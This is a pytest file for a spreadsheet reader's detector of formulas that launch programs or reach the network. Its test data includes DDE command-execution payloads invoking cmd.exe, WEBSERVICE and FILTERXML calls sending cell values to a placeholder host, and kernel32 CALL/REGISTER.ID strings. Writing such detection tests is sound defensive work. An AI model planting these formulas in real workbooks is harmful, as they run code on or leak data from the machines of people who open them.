"""Formulas that start a program or fetch from outside are told at their cells, and no others."""

from __future__ import annotations

import pytest

from ibcalc.workbook.reader.reaching import FETCHING, reaches_out
from ibcalc.workbook.reader.submitted import submission_findings
from ibcalc.workbook.reader.xlsx import read_workbook, reading_findings
from tests.workbook.handmade import book_bytes, parts

REACHING = (
    "cmd|'/c calc'!A0",
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    '_xlfn.WEBSERVICE("http://x/"&amp;A1)',
    'IF(1,_xlfn.FILTERXML(webservice("http://x"),"//a"))',
    '_xlfn.IMAGE("http://x/a.png")',
    'RTD("a.b",,"c")',
    'CALL("kernel32","Sleep","J",1)',
    'REGISTER.ID("kernel32","Sleep")',
    'DDE("soffice","x","y")',
    "_xlfn._xlws.PY(0,1)",
)
HARMLESS = (
    "SUM(A1:A9)",
    'IF(A1="cmd|calc",1,0)',
    "'a|b'!A1+1",
    "tbl[a|b]",
    '"CALL("&amp;A1&amp;")"',
    "AVERAGE(A1:A2)+PRICE(1,2,3,4,5,6)",
    "RECALL(1)+Lijst.CALL(2)",
    'HYPERLINK("http://x")',
    "PMT(1,2,3)*COPY(4)",
)


ROW = '<row r="{0}"><c r="A{0}"><v>{0}</v></c><c r="B{0}"><f>{1}</f><v>1</v></c></row>'


def rows(formula: str, count: int = 1) -> str:
    return "".join(ROW.format(number, formula) for number in range(1, count + 1))


def told(content: str) -> list[tuple[str, str, int]]:
    book = read_workbook(book_bytes(parts(content)), "b.xlsx", "")
    return [(one.code, one.place.in_sheet, one.count) for one in reading_findings(book)]


@pytest.mark.parametrize("formula", REACHING)
def test_a_formula_that_reaches_out_is_told_at_its_cell(formula: str) -> None:
    assert told(rows(formula)) == [("BOEK-053", "Blad!B1", 1)]


@pytest.mark.parametrize("formula", HARMLESS)
def test_other_formulas_are_not_told(formula: str) -> None:
    assert told(rows(formula)) == []


@pytest.mark.parametrize("name", FETCHING)
def test_each_function_is_found_in_both_cases(name: str) -> None:
    assert reaches_out(f"1+{name}(1)")
    assert reaches_out(f"{name.lower()}(1)")


BIG = 9_000
"""Rows that are read together, as there is more than one piece of them."""


@pytest.mark.parametrize("formula", REACHING)
def test_one_among_thousands_of_rows_is_found(formula: str) -> None:
    plain = rows("VLOOKUP(A1,Lijst!$A$1:$B$9,2,FALSE)", BIG)
    half = plain.find("<row", len(plain) // 2)
    assert f'<row r="{BIG}"' in plain[half:]
    row = plain[half:].split('"')[1]
    start = plain.find("<f>", half)
    end = plain.find("</f>", start)
    assert told(plain[:start] + "<f>" + formula + plain[end:]) == [("BOEK-053", f"Blad!B{row}", 1)]


@pytest.mark.parametrize("formula", ["WEBSERVI&#67;E(A1)", "WEBSERVICE&#40;A1)", "cmd&#124;'a'!b"])
def test_signs_written_by_their_number_hide_nothing(formula: str) -> None:
    assert told(rows(formula, BIG)) == [("BOEK-053", "Blad!B1", BIG)]


def test_a_formula_without_a_value_is_told_too() -> None:
    content = '<row r="1"><c r="A1"><f>RTD("a",,"b")</f></c></row>'
    assert {code for code, _, _ in told(content)} == {"BOEK-045", "BOEK-053"}


def test_the_sender_of_a_submission_is_told() -> None:
    book = read_workbook(book_bytes(parts(rows("cmd|'/c calc'!A0"))), "b.xlsx", "")
    (one,) = submission_findings(book)
    assert (one.code, one.place.cell) == ("AANL-153", "B1")
    assert "stuur" in one.fix


def test_text_that_only_looks_like_it_is_read_as_text() -> None:
    content = '<row r="1"><c r="A1" t="inlineStr"><is><t>=cmd|WEBSERVICE(</t></is></c></row>'
    assert told(content) == []
